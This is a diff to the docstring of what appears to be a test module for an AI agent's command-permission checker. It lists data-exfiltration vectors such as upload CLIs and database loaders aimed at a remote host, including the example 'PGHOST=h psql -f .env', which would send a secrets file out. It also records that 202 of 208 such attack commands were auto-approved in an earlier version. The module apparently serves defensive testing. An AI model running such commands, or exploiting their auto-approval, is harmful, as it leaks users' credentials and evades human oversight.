@@ -8,8 +8,9 @@ named (``s5cmd``, ``ossutil``, ``obsutil``, ``gdrive files upload``, ``ia upload
 ``cloudsmith push``), a monitoring service's deploy markers and uploads -- and a database server named where the words do not name it: by the environment
 (``PGHOST=h psql -f .env``, ``export PGHOST=h; ...``, a libpq service), or by the loaders that always send what
 they read (``mongoimport``, ``mongorestore``, ``mysqlimport``, ``pg_restore -d``, ``cqlsh h -f``, trino's,
-beeline's and usql's files). Every case below was auto-approved on 0ae6cad under an allow of every word it
-names, or in auto mode; the guards (ordinary reads and local servers) stay as they were.
+beeline's and usql's files). 202 of the 208 attack cases were auto-approved on 0ae6cad under an allow of every
+word they name or in auto mode (the other six asked already and stay as guards); the guards (ordinary reads and
+local servers) stay as they were.
 """
 
 from __future__ import annotations
